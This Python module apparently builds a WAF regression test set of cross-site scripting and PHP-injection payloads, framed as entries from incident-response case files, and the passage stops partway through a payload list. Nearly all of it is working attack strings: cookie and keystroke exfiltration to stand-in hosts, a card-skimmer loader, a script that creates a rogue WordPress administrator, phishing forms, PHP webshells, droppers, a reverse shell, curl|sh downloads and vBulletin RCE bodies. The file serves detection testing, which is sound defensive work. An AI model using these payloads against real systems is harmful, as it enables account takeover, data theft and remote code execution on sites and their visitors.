"""Blind set "hundredeightyeighth": cross-site scripting and PHP injection as incident responders find them in the
case files of a breach, with benign requests that carry the same words innocently.

The angle: incident responders' case files, recalled from memory. Each payload is written the way it turns up when
a team cleans up after an intrusion and records what happened: the attacker's first probes and the final exploit,
the mass-exploitation waves that hit every install of a popular product (WordPress plugins, Joomla, vBulletin,
Drupal, ThinkPHP, Laravel, Magento shops, PHP-CGI on XAMPP), lines copied out of access logs and WAF alerts
(URL-encoded once or twice, mixed case, with the junk parameters and cache-busters attackers add), second-stage
droppers, persistence and exfiltration one-liners, and the variant the attacker switched to after the first
attempt was blocked. Each payload still works against its named target; a comment above each group names the
family, the incident context and the target (browser, PHP interpreter, a product and its sink).

Families (one sub-family per detection title):
  xss: libinjection-xss, script-tag, event-handler, attribute-vector (src/href/style/formaction),
    javascript-uri, html-injection (iframe/object/embed/base/meta/link/form), svg-mathml, css-expression,
    template-literal-dom-sink, ie-filter-vectors, encoded-entity-vectors, angular-vue-client-templates
  php: php-open-tag, php-function-call (system/exec/passthru/shell_exec/popen/proc_open/assert/eval/
    create_function/preg_replace-e), php-variable-functions, php-wrappers (php://, data://, phar://, expect://,
    zip://, glob://), php-object-injection (serialized O:/a:/C:), php-config-directives (auto_prepend_file,
    allow_url_include, PHP_VALUE), php-superglobals, php-file-upload (.php/.phtml/.phar names),
    php-high-risk-function-names

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names, as a query string, form body, JSON body, XML body, a raw form-typed body, or in
User-Agent, Referer, a custom header or a cookie. Lines copied out of access logs are whole query strings or form
bodies exactly as logged (their percent-escapes, junk parameters and cache-busters kept, nothing encoded again)
and go as the query string or the body. Log-poisoning payloads go in User-Agent, serialized objects also in
cookies, prototype-pollution documents as the JSON body, PHP_VALUE lines (php-fpm) in the URL path, and uploaded
file names as a multipart file name. Payloads that a header, cookie or path cannot carry fall back to a body.

Authorship and independence: written for this repository from general knowledge of each attack family, incident
reports and clean-ups as remembered, and the detection titles alone; no WAF rule, engine source, ruleset
regression test or public payload list was read. Measured once on unchanged code; deterministic (no clock, no
randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "hundredeightyeighth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
UA_HDR = ("header:User-Agent", "rs-header:User-Agent")
JB = ("json-body", "rs-json-body")
COOKIE = ("cookie", "rs-cookie")
PATH = ("path", "rs-path")
UPLOAD = ("multipart-filename", "rs-multipart-filename")

# Lines copied out of access logs and WAF alerts: the whole query string (or form body) as logged, sent unencoded.
LOG_LINES: set[str] = set()


def log(line: str, body: bool = False) -> Entry:
    """A logged query string (or, `body`, a logged form body), sent as it was logged."""
    LOG_LINES.add(line)
    return (line, "form", "rs-raw-body") if body else (line, "query", "rs-query")


def ua(payload: str) -> Entry:
    return (payload, *UA_HDR)


def upload(filename: str) -> Entry:
    return (filename, *UPLOAD)


# ================================================================================================================
# XSS (target: the victim's browser rendering the product's page)
# ================================================================================================================

# libinjection-xss: the short first probes that open most XSS case files, and the famous polyglot
LIBXSS: list[Entry] = [
    # first probe against a WooCommerce shop's product search (browser, reflected in the results heading)
    "\"><img src=x onerror=prompt(1)>",
    "'><svg/onload=confirm`1`>",
    # the attacker's scanner breaking out of a <title> and a <textarea> on a helpdesk (osTicket) reply form
    "</title><script>alert(1)</script>",
    "</textarea><svg onload=alert(1)>",
    # the probe that found the stored XSS in a forum signature (MyBB), then reused on the profile page
    "<details open ontoggle=alert(document.domain)>",
    "<x onclick=alert(1)>click me",
    "\" autofocus onfocus=alert(document.domain) x=\"",
    # payloads from the WAF alert queue: unclosed tags that browsers repair
    "<img src=1 onerror=alert(1)//",
    "<body onpageshow=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)>",
    # cookie theft in the same forum once the probe worked: the base64 hides the cookie read from naive filters
    "\"><input onfocus=eval(atob(this.id)) id=YWxlcnQoZG9jdW1lbnQuY29va2llKQ== autofocus>",
    # object/iframe with a javascript: source, the second wave's probes
    "\"><iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<form><button formaction=javascript:alert(1)>X",
    # the polyglot a bug-bounty hunter pasted into every field of the customer portal (all contexts at once)
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "'\"--></style></script><svg onload=alert(1)>",
    # logged probe, a cache-buster and tracking junk around it (search page of a news site)
    log("s=%22%3E%3Cimg+src%3Dx+onerror%3Dprompt(document.domain)%3E&_=1718035200123&utm_source=newsletter"),
    log("q=%27%3E%3Csvg%2Fonload%3Dconfirm%281%29%3E&lang=en&page=2"),
]

# script-tag: <script> blocks: probes, skimmer loaders, admin-creation payloads, keyloggers
SCRIPT: list[Entry] = [
    # the stored payload in a WordPress contact-form plugin's entries page (browser of the admin reading it)
    "<script>alert(document.domain)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    # Magecart-style loader planted in a Magento CMS block: pulls the card skimmer from a look-alike CDN
    "<script>var s=document.createElement('script');s.src='https://magento-analytics.top/jquery.min.js';"
    "document.head.appendChild(s)</script>",
    "<script src=//cdn-jquery-lib.top/jquery-3.6.0.min.js></script>",
    "<script type=module>import('//static-cdn-metrics.cc/m.js')</script>",
    # final stage against WordPress: the admin's browser reads the nonce and creates a rogue administrator
    "<script>fetch('/wp-admin/user-new.php').then(r=>r.text()).then(t=>{n=t.match(/_wpnonce_create-user\" "
    "value=\"(\\w+)/)[1];fetch('/wp-admin/user-new.php',{method:'POST',credentials:'include',headers:"
    "{'Content-Type':'application/x-www-form-urlencoded'},body:'action=createuser&_wpnonce_create-user='+n+"
    "'&user_login=wpsupport&email=wps@mail-box.top&pass1=Qwe123!!x&pass2=Qwe123!!x&role=administrator'})})"
    "</script>",
    # session theft from a helpdesk agent's browser (cookie not HttpOnly)
    "<script>new Image().src='https://c.exfil-img.top/c?'+document.cookie</script>",
    "<script>navigator.sendBeacon('//b.stat-beacon.top/k',document.cookie+'|'+location)</script>",
    "<script>document.location='http://203.0.113.41/?c='+encodeURIComponent(document.cookie)</script>",
    # keylogger left on a login page through a stored XSS in the site-wide notice banner
    "<script>document.onkeypress=function(e){new Image().src='//k.keystat.top/?k='+e.key}</script>",
    # the variant after the first one was blocked: attribute, junk and mixed tricks around the same script
    "<script/src=data:,alert(1)></script>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>onerror=alert;throw 1</script>",
    "<script>{onerror=alert}throw document.domain</script>",
    "<script>eval(atob('ZmV0Y2goJy8vY2RuLXN0YXRpYy50b3Avay5qcycpLnRoZW4ocj0+ci50ZXh0KCkpLnRoZW4oZXZhbCk='))</script>",
    # breaking out of an inline <script> that embeds the search term
    "</script><script>alert(1)</script>",
    "</script><script src=//cdn-static.top/k.js></script>",
    # jQuery already on the page: the loader shrinks
    "<script>$.getScript('//cdn-static.top/k.js')</script>",
    # copied from the access log of the WooCommerce wave: once and twice encoded, mixed case
    log("q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E&_=1718035200123"),
    log("search=%3CsCrIpT%3Ealert%281%29%3C%2FsCrIpT%3E&cb=88121&ref=ggl"),
    log("s=%253Cscript%253Ealert(1)%253C%252Fscript%253E&utm_source=google&utm_medium=cpc"),
]

# event-handler: on* attributes on ordinary tags: the workhorse of mass XSS
EVENT: list[Entry] = [
    # cookie grab through an avatar URL field rendered unescaped (browser of every viewer)
    "<img src=x onerror=this.src='//i.pixel-cdn.top/?'+document.cookie>",
    "<img src=x onerror=fetch('//c2.pixel-cdn.top/?c='+btoa(document.cookie))>",
    "<img src=x onerror=import('//m.pixel-cdn.top/a.js')>",
    # the probes of a plugin-wide campaign against a WordPress slider plugin's caption field
    "<body onload=alert(1)>",
    "<div onmouseover=\"alert(1)\">hover</div>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<iframe onload=alert(1)>",
    "<video src=x onerror=alert(1)>",
    "<style onload=alert(1)></style>",
    "<marquee loop=1 width=0 onfinish=alert(1)>",
    "<body onhashchange=alert(1)><a href=#x>click</a>",
    "<x contenteditable onblur=alert(1)>lose focus!",
    # a full-page invisible overlay so any mouse move fires (stored in a comment)
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\" onmouseover=alert(document.cookie)></div>",
    # breaking out of an attribute that already holds the value
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    # the variants after 'alert' and 'onerror=' were blocked at the edge
    "<img src=x onerror=window['al'+'ert'](1)>",
    "<img src=x onerror=top[8680439..toString(30)](1)>",
    "<img src=x onerror=\\u0061lert(1)>",
    "<img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>",
    "<img/src/onerror=alert(1)>",
    "<img src=x onerror\t=alert(1)>",
    "<img src=x OnErRoR=alert(1)>",
    "<img src=x onerror=location=atob`amF2YXNjcmlwdDphbGVydCgxKQ==`>",
    log("name=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E&email=a%40b.c&submit=1", body=True),
]

# attribute-vector: src/href/srcdoc/formaction/style attributes that carry script or steal data
ATTRIBUTE: list[Entry] = [
    # login form hijack on a membership site: an injected button posts the credentials to the attacker
    "<input type=submit formaction=//collect-forms.top/p value=\"Sign in\">",
    "<button form=login formaction=https://collect-forms.top/l>Log in</button>",
    "<button formaction=javascript:alert(document.domain)>go</button>",
    "\" formaction=\"javascript:alert(1)",
    "<form action=javascript:alert(1)><input type=submit>",
    "<isindex action=javascript:alert(1) type=submit value=click>",
    # srcdoc carries a whole document (browser parses it as HTML, entities decoded)
    "<iframe srcdoc=\"<script>alert(parent.document.cookie)</script>\">",
    "<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\">",
    # data: documents in src/href/data attributes
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">open invoice</a>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
    "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    # input type=image and srcset with an error handler
    "<input type=image src=x onerror=alert(1)>",
    "<img srcset=\",,,,,x\" onerror=alert(1)>",
    # style attribute injected to overlay the page and catch clicks (clickjacking inside the site)
    "\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\" onclick=\"alert(1)",
    # dangling markup: steals the CSRF token that follows the injection point (no script needed)
    "\"><img src='//dangling.exfil-img.top/?",
    "<meta http-equiv=refresh content='0;url=//dangling.exfil-img.top/?",
    "\"><a href=//phish-login.top/reset>Your session expired, sign in again</a>",
    # attribute breakouts used by the second wave after quotes were stripped
    "x onerror=alert(1) src=x",
    "/ onerror=alert(1) src=x>",
    log("redirect_uri=%22%20formaction%3D%22javascript%3Aalert(1)&state=af0ifjsldkj"),
]

# javascript-uri: javascript: URLs in redirect, link and profile-website fields
JSURI: list[Entry] = [
    # open redirect on a login page turned into XSS (next= and return_to= sinks, browser navigates)
    "javascript:alert(document.domain)",
    "JaVaScRiPt:alert(1)",
    "javascript://%0aalert(1)",
    "javascript://trusted.example.com/%0Aalert(document.cookie)",
    "javascript://https://trusted.example.com/%0Aalert(1)",
    "javascript:alert(1)//http://trusted.example.com",
    # browsers strip tab, newline and leading control characters from URLs
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    # javascript: URLs are percent-decoded before running
    "javascript:%61lert(1)",
    "javascript:alert%28document.cookie%29",
    "javascript:eval(atob('YWxlcnQoMSk='))",
    # the profile-website field of a SaaS directory: the exploit steals the viewer's session
    "javascript:fetch('//c.exfil-img.top/'+document.cookie)",
    "javascript:window.location='//phish-login.top/?'+document.cookie",
    "javascript:import('//m.pixel-cdn.top/a.js')",
    "javascript:top['al'+'ert'](1)",
    # a javascript: URL that returns markup replaces the document with it
    "javascript:'<img src=x onerror=alert(document.domain)>'",
    "javascript:void(document.body.innerHTML='<form action=//collect-forms.top><input name=p type=password>')",
    # polyglot for href and unquoted attribute sinks at once
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    # logged: once and twice encoded, in the SSO redirect parameter
    log("next=javascript%3Aalert(document.domain)%2F%2F&lang=en"),
    log("redirect_to=JaVaScRiPt%3A%2F%2F%250Aalert(1)&reauth=1"),
]

# html-injection: iframe/object/embed/base/meta/link/form that reshape the page or load foreign content
HTMLINJ: list[Entry] = [
    # credential phishing form injected into a bank's "message" page (browser shows it as the site's own)
    "<form action=//phish-login.top/login method=post><input name=user placeholder=Username>"
    "<input name=pass type=password placeholder=Password><input type=submit value=\"Sign in\"></form>",
    "<iframe src=//phish-login.top/login.html width=100% height=900 frameborder=0></iframe>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe name=x src=//phish-login.top></iframe><a href=javascript:alert(1) target=x>",
    # base tag hijack: every relative script on the page loads from the attacker's host
    "<base href=\"//cdn-static.top/\">",
    "<base href=javascript:alert(1)//>",
    # meta refresh redirects visitors of a defaced page
    "<meta http-equiv=\"refresh\" content=\"0;url=//phish-login.top/\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    # object/embed loading an attacker's SVG or HTML document
    "<object data=//cdn-static.top/x.svg type=image/svg+xml></object>",
    "<embed src=//cdn-static.top/x.svg type=image/svg+xml>",
    "<object data=//cdn-static.top/p.html type=text/html width=100% height=800></object>",
    # an injected stylesheet and an HTML import (defacement and script loading)
    "<link rel=stylesheet href=//cdn-static.top/deface.css>",
    "<link rel=import href=//cdn-static.top/x.html>",
    # frameset takes over the whole page
    "<frameset onload=alert(1)>",
    "<frameset><frame src=//phish-login.top/></frameset>",
    # sanitizer bypasses found in a rich-text comment field (mutation XSS: the parser re-reads the markup)
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    # defacement content injection reported by a customer
    "</div><h1>This site has moved</h1><a href=//phish-login.top>continue to the new site</a><!--",
    log("msg=%3Ciframe+src%3D%2F%2Fphish-login.top%2Flogin.html+width%3D100%25+height%3D900%3E%3C%2Fiframe%3E&t=1"),
]

# svg-mathml: SVG and MathML elements and their foreign-content parsing
SVG: list[Entry] = [
    # avatar upload on a community site: SVG served inline, script runs for every viewer
    "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.domain)\"/>",
    "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('//c.exfil-img.top/?'+"
    "document.cookie)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(document.domain)>",
    "<svg\x0conload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><script xlink:href=//cdn-static.top/a.js></script></svg>",
    "<svg><script>alert&#40;1&#41;</script>",
    # SVG animation elements set javascript: links or fire begin events
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">Open</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributename=x dur=1s>",
    "<svg><discard onbegin=alert(1)>",
    "<svg><image href=x onerror=alert(1) />",
    # sanitizer bypass through foreign content (DOMPurify mXSS, 2020)
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    # MathML links (Firefox)
    "<math href=\"javascript:alert(1)\">CLICK</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click<mtext>x</mtext></maction></math>",
    log("avatar_svg=%3Csvg%2Fonload%3Dalert%28document.domain%29%3E&save=1", body=True),
]

# css-expression: IE expressions, behaviours and modern CSS-injection exfiltration
CSS: list[Entry] = [
    # intranet still on IE 8 compatibility mode: expression() in a profile's style field
    "<div style=\"width:expression(alert(1))\">",
    "<style>*{x:expression(alert(1))}</style>",
    "<x style=\"x:expression(document.location='//c.exfil-img.top/?'+document.cookie)\">",
    "<div style=\"xss:expr/**/ession(alert(1))\">",
    "<div style=\"x:\\65xpression(alert(1))\">",
    "<div style=\"width:exp\\ression(alert(1))\">",
    "\" style=\"x:expression(alert(1))",
    "<img style=\"xss:expression(alert(1))\">",
    # javascript: URLs inside CSS (IE 6/7) and behaviours (.htc) / XBL bindings (old Firefox)
    "<div style=\"background:url(javascript:alert(1))\">",
    "<style>li{list-style-image:url(\"javascript:alert(1)\")}</style><ul><li>x",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>@im\\port'\\ja\\vasc\\ript:alert(1)';</style>",
    "<div style=\"behavior:url(//cdn-static.top/x.htc)\">",
    "<style>body{-moz-binding:url(//cdn-static.top/x.xml#xss)}</style>",
    # CSS injection in a theme-colour field of a SaaS portal: attribute selectors leak the CSRF token
    "<style>input[name=csrf_token][value^=a]{background:url(//css-leak.top/?t=a)}</style>",
    "</style><style>input[name=csrf_token][value^=b]{background:url(//css-leak.top/?t=b)}</style>",
    "red;}input[name=csrf_token][value^=c]{background:url(//css-leak.top/?t=c)}",
    "<style>@import url(//css-leak.top/start?len=32);</style>",
    "<style>@font-face{font-family:x;src:url(//css-leak.top/f?c=a);unicode-range:U+0061}"
    "#secret{font-family:x}</style>",
    "<link rel=stylesheet href=//css-leak.top/leak.css>",
    log("theme_color=red%3B%7Dinput%5Bname%3Dcsrf_token%5D%5Bvalue%5E%3Dd%5D%7Bbackground%3Aurl(%2F%2Fcss-leak.top"
        "%2F%3Ft%3Dd)%7D&save=1", body=True),
]

# template-literal-dom-sink: string and template-literal breakouts in inline scripts, DOM sinks, JSONP, pollution
DOMSINK: list[Entry] = [
    # the search term lands in var q = '...'; inline script (browser JS engine)
    "';alert(document.domain);//",
    "\\';alert(1);//",
    "'-alert(1)-'",
    "\"-alert(1)-\"",
    "'+eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))+'",
    "\";document.write('<script src=//cdn-static.top/k.js><\\/script>');//",
    "\\\"-alert(1)}//",
    "1;alert(1)",
    "-prompt(1)-",
    # template literal: the value sits between backticks, ${} runs
    "${alert(document.domain)}",
    "`-alert(1)-`",
    "${fetch('//c.exfil-img.top/?'+document.cookie)}",
    # location.hash and jQuery selector sinks (DOM XSS found in the marketing site)
    "#<img src=x onerror=alert(1)>",
    "';eval(location.hash.slice(1))//",
    # JSONP callback taken from the query (browser runs the callback as script)
    log("callback=alert(document.domain)//&_=1718035200999"),
    log("jsonp=fetch('//c.exfil-img.top/?'%2Bdocument.cookie)//&id=3"),
    # client-side prototype pollution gadgets that end in innerHTML / script src
    log("__proto__[innerHTML]=%3Cimg%2Fsrc%2Fonerror%3Dalert(1)%3E&utm_source=x"),
    log("__proto__[src]=data:,alert(1)//&q=shoes"),
    log("constructor[prototype][srcdoc]=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("{\"__proto__\":{\"innerHTML\":\"<img src=x onerror=alert(document.domain)>\"}}", *JB),
    ("{\"constructor\":{\"prototype\":{\"src\":\"data:,alert(1)//\"}}}", *JB),
]

# ie-filter-vectors: legacy IE/Netscape-era vectors still tried against an intranet on IE mode
IEVEC: list[Entry] = [
    # the intranet HR portal runs in IE 11 document mode 7 (browser: Internet Explorer)
    "<img src=\"javascript:alert(1)\">",
    "<img dynsrc=\"javascript:alert(1)\">",
    "<img lowsrc=\"javascript:alert(1)\">",
    "<bgsound src=\"javascript:alert(1)\">",
    "<table background=\"javascript:alert(1)\">",
    "<input type=image src=javascript:alert(1)>",
    "<iframe src=vbscript:msgbox(1)></iframe>",
    "<a href=vbscript:msgbox(document.cookie)>open</a>",
    "<script language=vbscript>msgbox \"xss\"</script>",
    "<br size=\"&{alert(1)}\">",
    "<layer src=\"//cdn-static.top/a.html\"></layer>",
    # IE data binding and HTML+TIME behaviours
    "<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>"
    "<span datasrc=#x datafld=c dataformatas=html></span>",
    "<x style=behavior:url(#default#time2) onbegin=alert(1)>",
    "<?xml:namespace prefix=t ns=urn:schemas-microsoft-com:time><?import namespace=t implementation=#default#time2>"
    "<t:set attributeName=innerHTML to=XSS&lt;img/src=x onerror=alert(1)&gt;>",
    "<object type=text/x-scriptlet data=//cdn-static.top/a.sct></object>",
    # IE parsing quirks: comment tag, conditional comments, backtick-quoted attributes, NUL inside keywords
    "<comment><img src=\"</comment><img src=x onerror=alert(1)//\">",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![><img src=\"]><img src=x onerror=alert(1)//\">",
    "<img src=`javascript:alert(1)`>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    # UTF-7 for IE's charset sniffing (the error page had no charset)
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    log("err=%2BADw-script%2BAD4-alert(document.cookie)%2BADw-%2Fscript%2BAD4-&code=500"),
]

# encoded-entity-vectors: entities, escapes and encodings a sink decodes before rendering
ENCODED: list[Entry] = [
    # the CMS html_entity_decode()s titles before output (browser sees real tags)
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&lt;img src=x onerror=alert(document.domain)&gt;",
    # entity-encoded javascript: inside href (decoded by the HTML parser before the URL is used)
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;"
    "&#49;&#41;\">x</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert&lpar;1&rpar;\">x</a>",
    "<a href=\"jav&Tab;ascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<img src=x onerror=\"&#x61;&#x6C;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;\">",
    "<img src=x onerror=&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041>",
    "<svg onload=alert&lpar;1&rpar;>",
    # JavaScript string escapes inside the handler
    "<img src=x onerror=eval('\\x61lert(1)')>",
    "<img src=x onerror=eval('\\141lert(1)')>",
    "<img src=x onerror=eval(unescape('%61lert(1)'))>",
    "<img src=x onerror=eval(decodeURIComponent('%61%6c%65%72%74%28%31%29'))>",
    # the API returns JSON-escaped HTML that the front end inserts with innerHTML
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    # an app that URL-decodes the value a second time (seen in the WAF alert as double-encoded)
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    # overlong UTF-8 and fullwidth forms that a legacy decoder / NFKC normalisation folds to < and >
    "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    # IIS %u escapes
    "%u003cscript%u003ealert(1)%u003c/script%u003e",
    log("q=%26lt%3Bimg+src%3Dx+onerror%3Dalert(1)%26gt%3B&page=2"),
]

# angular-vue-client-templates: expressions evaluated by client-side template engines in user content
CLIENTTPL: list[Entry] = [
    # AngularJS 1.6+ (no sandbox) in a support portal that binds ticket subjects inside ng-app
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(document.domain)')()}}",
    "{{$eval.constructor('alert(1)')()}}",
    "{{[].pop.constructor('alert(1)')()}}",
    "{{constructor.constructor('fetch(\"//c.exfil-img.top/?\"+document.cookie)')()}}",
    # AngularJS sandbox escapes for the older 1.x pages still in production
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
    "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
    "[\"a\",\"alert(1)\"].sort(toString.constructor)}}",
    # AngularJS directives and the CSP-mode bypass
    "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)>",
    "<input autofocus ng-focus=\"$event.path|orderBy:'[].constructor.from([1],alert)'\">",
    "<x ng-app>{{constructor.constructor('alert(1)')()}}</x>",
    # custom interpolation symbols in a Jinja + Angular app
    "[[constructor.constructor('alert(1)')()]]",
    # Vue 2 and Vue 3 templates compiled from user content
    "{{_c.constructor('alert(1)')()}}",
    "{{this.constructor.constructor('alert(document.domain)')()}}",
    "{{$el.ownerDocument.defaultView.alert(1)}}",
    "{{_openBlock.constructor('alert(1)')()}}",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    "<p v-show=\"_c.constructor`alert(1)`()\">x</p>",
    "<div @click=\"_c.constructor('alert(1)')()\">click</div>",
    # Alpine.js and Knockout bindings
    "<div x-data x-init=\"alert(document.domain)\"></div>",
    "<div data-bind=\"html:'<img src=x onerror=alert(1)>'\"></div>",
    log("subject=%7B%7Bconstructor.constructor(%27alert(1)%27)()%7D%7D&priority=low&_=1718035201"),
]

# ================================================================================================================
# PHP injection (target: the PHP interpreter behind the named product or sink)
# ================================================================================================================

# php-open-tag: code written into a file PHP later includes (log poisoning, file writes, template fields)
OPENTAG: list[Entry] = [
    # first probes of a mass-exploitation wave: a marker the scanner greps for in the response
    "<?php echo md5('x0x0');?>",
    "<?php print(md5(31337));?>",
    "<?php phpinfo();?>",
    "<?=phpinfo()?>",
    # the webshells found in wp-content/uploads during the clean-up (PHP interpreter)
    "<?php system($_GET['cmd']); ?>",
    "<?php @eval($_POST['pass']);?>",
    "<?=`$_GET[0]`?>",
    "<? passthru($_GET['x']); ?>",
    "<?php echo \"<pre>\";system($_GET['cmd']);echo \"</pre>\";?>",
    "<?php $c=$_GET['c'];echo `$c`;?>",
    "<?PHP EVAL($_REQUEST[1]);?>",
    "<?php\nsystem('id');",
    "<?php /**/eval(gzinflate(base64_decode('K64sLknN1VCJd3cNiVZPVo/VtAYA')));?>",
    "GIF89a;<?php system($_GET['c']);?>",
    # PHP 5 era alternative tags (script language and ASP tags)
    "<script language=\"php\">system($_GET['c']);</script>",
    "<% system($_GET['c']); %>",
    # log poisoning: the request that planted code in access.log before an LFI included it
    ua("<?php system($_GET['c']); ?>"),
    ua("<?php passthru(base64_decode($_SERVER['HTTP_X_CMD']));?>"),
    ua("Mozilla/5.0 <?php echo shell_exec($_GET['e']);?>"),
    # droppers and persistence: fetch a second stage, re-infect index.php every minute
    "<?php copy('http://198.51.100.23/s.txt','wp-content/uploads/s.php');?>",
    "<?php file_put_contents('.cache.php',base64_decode($_POST['d']));?>",
    "<?php ignore_user_abort(1);set_time_limit(0);while(1){file_put_contents('index.php',"
    "file_get_contents('http://198.51.100.23/i.txt'));sleep(60);}?>",
    # reverse shell to the attacker's listener
    "<?php $s=fsockopen(\"198.51.100.77\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");?>",
    # copied from the access log: the open tag once encoded in a language parameter
    log("lang=%3C%3Fphp+system(%24_GET%5B%27c%27%5D)%3B%3F%3E&c=id"),
    log("tpl=%253C%253Fphp%2520phpinfo()%253B%253F%253E&_=1718040000"),
]

# php-function-call: command and code execution functions reached from a code-injection sink
FUNCALL: list[Entry] = [
    # an eval()'d calculator field on a quotes page (PHP interpreter); first probe, then the shell
    "system('id')",
    "system(\"curl -s http://198.51.100.7/x.sh|sh\")",
    "exec('wget -qO- http://198.51.100.7/m|sh')",
    "passthru('uname -a')",
    "shell_exec('cat /etc/passwd')",
    "print(shell_exec('id'))",
    "echo `whoami`;",
    "die(system('cat /etc/hosts'));",
    "popen('id','r')",
    "proc_open('id',array(array('pipe','r'),array('pipe','w'),array('pipe','w')),$p)",
    "pcntl_exec('/bin/sh',array('-c','id'))",
    "eval('phpinfo();')",
    "eval(base64_decode('c3lzdGVtKCdpZCcpOw=='))",
    "assert('system(\"id\")')",
    "assert(base64_decode('c3lzdGVtKCdpZCcpOw=='))",
    # old code paths: create_function() bodies and the /e modifier of preg_replace (PHP 5)
    "create_function('','}system(\"id\");//')",
    "preg_replace('/.*/e','system(\"id\")','x')",
    "/.*/e",
    # breaking out of the eval()'d string or array context first
    "';system('id');//",
    "');system('id');//",
    "\"];system('ls -la');//",
    "1;phpinfo()",
    # complex curly syntax in a double-quoted string (mass probe used against many PHP forums)
    "${@print(md5(123))}",
    "{${system('id')}}",
    "${@system($_GET['c'])}",
    # vBulletin 5 widget render RCE, the 2019 and 2020 waves as logged
    log("routestring=ajax/render/widget_php&widgetConfig[code]=echo shell_exec('id'); exit;", body=True),
    log("routestring=ajax%2Frender%2Fwidget_tabbedcontainer_tab_panel&subWidgets[0][template]=widget_php"
        "&subWidgets[0][config][code]=echo%20shell_exec(%27id%27)%3B%20exit%3B", body=True),
